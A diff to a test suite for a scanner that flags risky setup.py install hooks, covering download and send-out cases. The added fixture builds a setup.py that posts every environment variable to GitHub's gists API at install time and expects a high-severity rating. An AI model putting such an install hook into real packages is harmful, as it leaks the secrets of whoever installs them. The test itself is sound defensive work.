@@ -61,6 +61,9 @@ describe('setup.py install hooks', () => {
       setupWith(`urllib.request.urlretrieve(f'${url}', os.path.join('hooked', 'bin', 'engine.tar.gz'))`).replace('import os,', 'import os, urllib.request,');
     expect(await judge(fetch('https://github.com/hooked-org/hooked/releases/download/v1.0/engine-{sys.platform}.tar.gz'))).toMatchObject({ severity: 'medium', decision: 'warn' });
     expect((await judge(fetch('https://cdn.example.net/engine-{sys.platform}.tar.gz'))).severity).toBe('high');
+    // Posting to the same host is not a download: a gist is a GitHub URL too.
+    const post = setupWith("urllib.request.urlopen('https://api.github.com/gists', data=json.dumps(dict(os.environ)).encode())").replace('import os,', 'import os, json, urllib.request,');
+    expect((await judge(post.replace("packages=['hooked']", "packages=['hooked'], url='https://github.com/hooked-org/hooked'"))).severity).toBe('high');
   });
 
   it('does not count commands pip never runs as install time', async () => {
